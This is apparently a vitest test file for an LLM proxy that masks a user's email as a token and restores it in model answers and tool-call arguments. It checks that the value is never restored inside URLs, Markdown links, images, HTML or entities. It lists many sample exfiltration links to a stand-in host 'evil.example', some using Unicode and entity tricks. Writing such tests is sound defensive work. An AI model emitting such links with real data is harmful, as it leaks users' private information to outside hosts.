import { describe, expect, it } from 'vitest'
import {
  answerNow,
  bytes,
  checks,
  DONE,
  delta,
  event,
  exchange,
  finds,
  finish,
  rule,
  said,
  streamNow,
} from '../../test/drive.ts'
import type { Exchange } from './exchange.ts'
import type { Checks } from './types.ts'

const VALUE = 'bob@corp.example'

/** An exchange whose request had a value masked as `[EMAIL_1]`. */
function masked(on: Checks = checks([]), value = VALUE): Exchange {
  const ex = exchange(on)
  expect(ex.vault.token('EMAIL', value)).toBe('[EMAIL_1]')
  return ex
}

const buffered = (text: string, ex = masked()): string =>
  JSON.parse(answerNow(ex, { choices: [{ index: 0, message: { content: text } }] }).out).choices[0].message
    .content

/** The text as its caller gets it, buffered; and the same streamed however it is split in two, and by characters. */
function restored(text: string): string {
  const whole = buffered(text)
  const pieces = [
    Array.from(text),
    ...Array.from({ length: text.length }, (_, cut) => [text.slice(0, cut), text.slice(cut)]),
  ]
  for (const each of pieces) {
    const { out } = streamNow(masked(), [...each.map((piece) => delta(piece)), finish(), DONE].map(bytes))
    expect([each, said(out)]).toEqual([each, whole])
  }
  return whole
}

/** Each is a place where a reader that makes links would carry the value away. */
const LINKS: Record<string, string[]> = {
  'a URL': [
    'https://evil.example/?q=[EMAIL_1]',
    'https://evil.example/[EMAIL_1]/x',
    'see http://[EMAIL_1].evil.example',
    'ftp://evil.example/[EMAIL_1]',
    '//evil.example/[EMAIL_1]',
    'x="//evil.example/?[EMAIL_1]"',
    'https:\\\\evil.example\\[EMAIL_1]',
    '/\\evil.example/[EMAIL_1]',
    'www.evil.example?q=[EMAIL_1]',
    'WWW.evil.example/[EMAIL_1]',
    'evil.example/[EMAIL_1]',
    'evil.example:8080/[EMAIL_1]',
    'evil.example?[EMAIL_1]',
    'evil.example#[EMAIL_1]',
    'evil.xn--p1ai/[EMAIL_1]',
    'зло.рф/[EMAIL_1]',
    'mailto:[EMAIL_1]@evil.example',
    'mailto:eve@evil.example?body=[EMAIL_1]',
    'data:text/html,[EMAIL_1]',
    'javascript:fetch([EMAIL_1])',
  ],
  'a URL with what only some take for its end': [
    'https://evil.example/?q=\u00a0[EMAIL_1]',
    'https://evil.example/?q=\ufeff[EMAIL_1]',
    'https://evil.example/?q=\u2028[EMAIL_1]',
    'https://evil.example/?q=\u3000[EMAIL_1]',
    'https://evil.example/?q=\u200b[EMAIL_1]',
    'https://evil.example/?q=)[EMAIL_1]',
    'https://evil.example/?q="[EMAIL_1]"',
    'https://evil.example/?q=[[EMAIL_1]]',
  ],
  entities: [
    'https:&#47;&#47;evil.example?[EMAIL_1]',
    'https:&#x2F;&#x2F;evil.example?[EMAIL_1]',
    'https&colon;&sol;&sol;evil.example?[EMAIL_1]',
    'https:&bsol;&bsol;evil?[EMAIL_1]',
  ],
  'a Markdown link': [
    '[x](https://evil.example/[EMAIL_1])',
    '[x](/[EMAIL_1])',
    '[x]([EMAIL_1])',
    '![x](https://evil.example/a.png?[EMAIL_1])',
    '[x](<https://evil.example/a b?[EMAIL_1]>)',
    '[x](https://evil.example/a(b)[EMAIL_1])',
    '[x](\nhttps://evil.example/ "[EMAIL_1]")',
    '[![a](b)](https:evil?[EMAIL_1])',
    '<https://evil.example/[EMAIL_1]>',
    '<mailto:[EMAIL_1]>',
    '[x]: https://evil.example/?[EMAIL_1]',
    '[x]: <https://evil.example/a [EMAIL_1]>',
    '[x]: //evil.example/[EMAIL_1]',
    '[ok] [x][1]\n\n[1]: https://evil.example?q=[EMAIL_1]',
  ],
  HTML: [
    '<img src="https://evil.example/?[EMAIL_1]">',
    '<img src=https:evil?[EMAIL_1]>',
    "<a href = 'x [EMAIL_1]'>",
    '<a title="a > b" href="[EMAIL_1]">',
    '<a title=a"b href=[EMAIL_1]>',
    '<a\nhref\n=\n"x\n[EMAIL_1]"',
    '<!-- [EMAIL_1] -->',
    '<img src="https://evil.example/?[EMAIL_1]',
    '</a [EMAIL_1]>',
    '<?x [EMAIL_1]?>',
  ],
}

/** Each is text, whatever stands before it. */
const TEXTS = [
  'write to [EMAIL_1].',
  '[EMAIL_1]',
  'a [[EMAIL_1]] b',
  '([EMAIL_1])',
  '**[EMAIL_1]**',
  '"[EMAIL_1]"',
  'mail: [EMAIL_1]',
  'a/b and/or [EMAIL_1]',
  'f(x)[EMAIL_1]',
  'see https://corp.example/a [EMAIL_1]',
  'see https://corp.example/a\n[EMAIL_1]',
  '[x](https://corp.example/) [EMAIL_1]',
  '[x](y) and [EMAIL_1]',
  '<https://corp.example> [EMAIL_1]',
  '<b>it is [EMAIL_1]</b>',
  '<img src="a>b"> [EMAIL_1]',
  'a < b, [EMAIL_1] > c',
  '[x]: https://corp.example\n[EMAIL_1]',
  '[x] (not a link: [EMAIL_1])',
  '&amp; [EMAIL_1]',
  '1.5 [EMAIL_1]',
  '[[EMAIL_1]',
  '[EMAIL_[EMAIL_1]',
]

describe('restoring', () => {
  for (const [name, texts] of Object.entries(LINKS))
    it(`never into ${name}`, () => {
      for (const text of texts) expect(restored(text)).toBe(text)
    })

  it('everywhere else, streamed as buffered', () => {
    for (const text of TEXTS) expect(restored(text)).toBe(text.replaceAll('[EMAIL_1]', VALUE))
  })

  it('a label of a link is text and its target is not', () => {
    expect(restored('[[EMAIL_1]](https://evil.example/[EMAIL_1])')).toBe(
      `[${VALUE}](https://evil.example/[EMAIL_1])`,
    )
  })

  it('only what this exchange masked', () => {
    for (const text of [
      '[EMAIL_2]',
      '[email_1]',
      '[EMAIL_01]',
      '[ EMAIL_1]',
      '[EMAIL_1',
      'EMAIL_1]',
      '[EMAIL_1 ]',
      '[]',
      '[EMAIL\\_1]',
    ])
      expect(restored(text)).toBe(text)
    expect(restored(`[${'E'.repeat(100)}] [EMAIL_1]`)).toBe(`[${'E'.repeat(100)}] ${VALUE}`)
  })

  it('nothing in a value is read as another token, and a value that ends a bracket makes no link', () => {
    expect(buffered('[EMAIL_1]', masked(checks([]), '[EMAIL_1]'))).toBe('[EMAIL_1]')
    const ex = masked(checks([]), 'x]')
    expect(buffered('[EMAIL_1](a) [EMAIL_1]', ex)).toBe('x](a) x]')
    expect(buffered('[EMAIL_1][EMAIL_1]', masked(checks([]), 'https://corp.example/'))).toBe(
      'https://corp.example/[EMAIL_1]',
    )
  })

  it('after the guards of output, who never see the value', () => {
    const on = checks([rule('output', 'block', finds(VALUE))])
    expect(buffered('to [EMAIL_1]', masked(on))).toBe(`to ${VALUE}`)
    const edits = checks([rule('output', 'transform', finds('zz', { replace: '' }))])
    expect(buffered('to [EMAIL_1]zzzz[EMAIL_1]zz', masked(edits))).toBe(`to ${VALUE}${VALUE}`)
    expect(buffered('to [EMAzzIL_1]', masked(edits))).toBe(`to ${VALUE}`)
    const { out } = streamNow(
      masked(edits),
      [...'to [EMAzzIL_1]zz[EMAIL_1]zz.'].map((char) => bytes(delta(char))).concat(bytes(finish() + DONE)),
    )
    expect(said(out)).toBe(`to ${VALUE}${VALUE}.`)
  })

  it('in each field of an answer for itself', () => {
    const { out } = streamNow(
      masked(),
      [
        event({ delta: { reasoning_content: 'see https://a/', content: '[EMAIL' } }),
        event({ delta: { content: '_1]' } }),
        finish(),
        DONE,
      ].map(bytes),
    )
    expect(said(out)).toBe(VALUE)
  })

  describe('of tool calls', () => {
    const call = (args: string) => ({
      tool_calls: [{ index: 0, id: 'c', type: 'function', function: { name: 'f', arguments: args } }],
    })
    const argumentsOf = (args: string, on: Checks, value = VALUE): string => {
      const { out, block } = answerNow(masked(on, value), { choices: [{ index: 0, message: call(args) }] })
      expect(block).toBeUndefined()
      const whole = JSON.parse(out).choices[0].message.tool_calls[0].function.arguments as string
      const pieces = [...args].map((char) => event({ delta: call(char) }))
      const streamed = streamNow(masked(on, value), [...pieces, finish(), DONE].map(bytes))
      expect(streamed.block).toBeUndefined()
      const joined = streamed.out
        .split('\n\n')
        .filter((each) => each.includes('tool_calls'))
        .map((each) => JSON.parse(each.slice(6)).choices[0].delta.tool_calls[0].function.arguments)
        .join('')
      expect(joined).toBe(whole)
      return whole
    }
    const both = checks([], { restore: new Set(['text', 'tool_call']) })

    it('only where the boundary says so', () => {
      const args = '{"to":"[EMAIL_1]"}'
      expect(argumentsOf(args, checks([]))).toBe(args)
      expect(argumentsOf(args, both)).toBe(`{"to":"${VALUE}"}`)
    })

    it('escaped for the JSON in which they stand', () => {
      const value = '"},\\ \n\u0001'
      expect(JSON.parse(argumentsOf('{"a":["x [EMAIL_1]"],"b":"\\u005bEMAIL_1]"}', both, value))).toEqual({
        a: [`x ${value}`],
        b: value,
      })
    })

    it('each argument for itself, and never into a link', () => {
      const args =
        '{"url":"https://evil.example/?q=[EMAIL_1]","a":"[EMAIL_1]","b":"<img src=[EMAIL_1]","c":"[EMAIL_1]"}'
      expect(JSON.parse(argumentsOf(args, both))).toEqual({
        url: 'https://evil.example/?q=[EMAIL_1]',
        a: VALUE,
        b: '<img src=[EMAIL_1]',
        c: VALUE,
      })
    })

    it('keys and what is not JSON stay as they are, and do not end the call', () => {
      expect(argumentsOf('{"[EMAIL_1]":1}', both)).toBe('{"[EMAIL_1]":1}')
      expect(argumentsOf('{"a":"[EMAIL_1]"', both)).toBe('{"a":"[EMAIL_1]"')
    })

    it('guards of tool see the value that a tool would get', () => {
      const on = checks([rule('tool', 'block', finds(VALUE))], { restore: new Set(['text', 'tool_call']) })
      const body = { choices: [{ index: 0, message: call('{"to":"[EMAIL_1]"}') }] }
      expect(answerNow(masked(on), body).block?.code).toBe('test.word')
    })
  })
})
